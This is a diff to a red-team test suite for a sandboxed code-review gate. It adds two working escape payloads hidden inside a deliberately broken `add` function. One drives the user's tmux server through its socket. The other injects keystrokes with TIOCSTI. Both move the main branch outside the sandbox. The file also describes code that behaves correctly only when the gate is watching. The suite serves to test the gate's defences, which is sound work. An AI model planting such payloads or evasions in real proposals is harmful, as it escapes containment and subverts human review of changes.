@@ -53,6 +53,15 @@ The limits the README lists, shown concretely:
 - gate-detected: `add` is correct only while `RATCHET_TREE` (or `RATCHET_CANARIES`) is
   in the environment: the probe pops `RATCHET_CHANNEL` but leaves the variables that
   say "the gate is watching"; a person's own `pytest` run still fails.
+Out of the sandbox through the user's terminal (main moves to the untested merge commit
+while the gate rejects the proposal):
+- tmux-escape: a pathname Unix socket outside `/run` (listed): the user's tmux server,
+  found through `TMUX_TMPDIR` (passed on to the suite), lists its panes' folders and
+  runs `git update-ref` in the one that holds the merge commit, outside the sandbox.
+- tiocsti: not listed. A root suite keeps CAP_SYS_ADMIN and the sandbox grants
+  `/dev/pts` with the ioctl right, so `ioctl(TIOCSTI)` pushes a command line into any
+  terminal's input queue (here `$SSH_TTY`, passed on to the suite): the user's shell
+  runs it, outside the sandbox.
 Each test first shows the regression is real: the proposal's code, run by a plain
 interpreter outside any test run, gives the wrong value.
 """
@@ -66,6 +75,8 @@ import subprocess
 import sys
 import tarfile
 import tempfile
+import time
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
@@ -447,6 +458,84 @@ def add(a, b):
     return a - b""",
 )
 
+TMUX_ESCAPE = (
+    BROKEN_ADD
+    + """
+
+import os as _os
+import subprocess as _subprocess
+
+
+def _servers():
+    # A real attacker would also try /tmp/tmux-UID/default; this one stays off other
+    # people's servers on a shared test host.
+    found = [_os.environ.get("TMUX", "").split(",")[0]]
+    if _os.environ.get("TMUX_TMPDIR"):
+        found.append(_os.path.join(_os.environ["TMUX_TMPDIR"], "tmux-%d" % _os.getuid(), "default"))
+    return [path for path in found if path and _os.path.exists(path)]
+
+
+def _run(*argv):
+    try:
+        return _subprocess.run(argv, capture_output=True, text=True, timeout=10).stdout
+    except (OSError, _subprocess.SubprocessError):
+        return ""
+
+
+def _publish():
+    head = _run("git", "rev-parse", "HEAD").strip()
+    if not head:
+        return
+    for server in _servers():
+        panes = _run("tmux", "-S", server, "list-panes", "-a", "-F", "#{pane_current_path}")
+        for path in sorted(set(panes.split())):
+            script = (
+                "git -C '%s' cat-file -e %s 2>/dev/null && "
+                "git -C '%s' update-ref refs/heads/main %s" % (path, head, path, head)
+            )
+            _run("tmux", "-S", server, "run-shell", script)
+
+
+_publish()
+"""
+)
+
+PTY_INJECTION = (
+    BROKEN_ADD
+    + '''
+
+import fcntl as _fcntl
+import os as _os
+import subprocess as _subprocess
+import termios as _termios
+
+
+def _type_into(tty, line):
+    """Push `line` into a terminal's input queue, as if its user had typed it."""
+    fd = _os.open(tty, _os.O_WRONLY | _os.O_NOCTTY)
+    try:
+        for byte in line.encode():
+            _fcntl.ioctl(fd, _termios.TIOCSTI, bytes([byte]))
+    finally:
+        _os.close(fd)
+
+
+def _publish():
+    head = _subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True)
+    # A real attacker would walk /dev/pts (readable: the sandbox grants it); this one
+    # stays off other people's terminals on a shared test host: $SSH_TTY only.
+    tty = _os.environ.get("SSH_TTY", "")
+    if head.returncode == 0 and tty.startswith("/dev/pts/"):
+        try:
+            _type_into(tty, " git update-ref refs/heads/main %s; clear\\n" % head.stdout.strip())
+        except OSError:
+            pass
+
+
+_publish()
+'''
+)
+
 # -- ground truth -----------------------------------------------------------------------------
 
 
@@ -572,3 +661,62 @@ def test_inputs_special_cased_from_the_test_files(rich: Sandbox) -> None:
 
 def test_correct_only_when_the_gate_is_watching(rich: Sandbox) -> None:
     cheat(rich, "rt2/gate-detected", {"scripts/calc.py": GATE_DETECTED}, ADD_TRUTH)
+
+
+@pytest.fixture
+def terminal(rich: Sandbox, tmp_path: Path) -> Iterator[dict[str, str]]:
+    """The user's tmux server (its socket under TMUX_TMPDIR) with a shell in the checkout;
+    yields the variables of the user's environment that name them."""
+    tmux = shutil.which("tmux")
+    if tmux is None:
+        pytest.skip("tmux is not installed")
+    base = tmp_path / "tmux"
+    base.mkdir()
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("TMUX", "SSH_"))}
+    env.update(TMUX_TMPDIR=str(base), SHELL="/bin/sh", ENV="", HISTFILE="/dev/null")
+    socket = str(base / f"tmux-{os.getuid()}" / "default")
+    subprocess.run(
+        [tmux, "-f", "/dev/null", "new-session", "-d", "-s", "work", "-x", "200", "-y", "50",
+         "-c", str(rich.path), "/bin/sh"],
+        env=env, check=True, timeout=10,
+    )  # fmt: skip
+    tty = subprocess.run(
+        [tmux, "-S", socket, "display-message", "-p", "-t", "work", "#{pane_tty}"],
+        env=env, capture_output=True, text=True, check=True, timeout=10,
+    ).stdout.strip()  # fmt: skip
+    try:
+        # TMUX is the variable a shell inside tmux has; blank here so that an outer
+        # tmux of whoever runs this suite is never the target.
+        yield {"TMUX_TMPDIR": str(base), "SSH_TTY": tty, "TMUX": ""}
+    finally:
+        subprocess.run([tmux, "-S", socket, "kill-server"], env=env, timeout=10,
+                       check=False, capture_output=True)  # fmt: skip
+
+
+def _settled(box: Sandbox, before: str, timeout_s: float = 3.0) -> None:
+    """Give the terminal's shell time to run what it was sent (both outcomes alike)."""
+    deadline = time.monotonic() + timeout_s
+    while time.monotonic() < deadline and box.head() == before:
+        time.sleep(0.1)
+
+
+def test_tmux_server_socket_runs_git_outside_the_sandbox(
+    rich: Sandbox, terminal: dict[str, str]
+) -> None:
+    main = rich.head()
+    propose(rich, "rt2/tmux", {"scripts/calc.py": TMUX_ESCAPE})
+    before = snapshot(rich)
+    verdict = validate(rich, "rt2/tmux", "--reruns", "0", env=terminal)
+    _settled(rich, main)
+    assert_held(rich, before, verdict)
+
+
+def test_keystrokes_pushed_into_the_users_terminal_with_tiocsti(
+    rich: Sandbox, terminal: dict[str, str]
+) -> None:
+    main = rich.head()
+    propose(rich, "rt2/tiocsti", {"scripts/calc.py": PTY_INJECTION})
+    before = snapshot(rich)
+    verdict = validate(rich, "rt2/tiocsti", "--reruns", "0", env=terminal)
+    _settled(rich, main)
+    assert_held(rich, before, verdict)
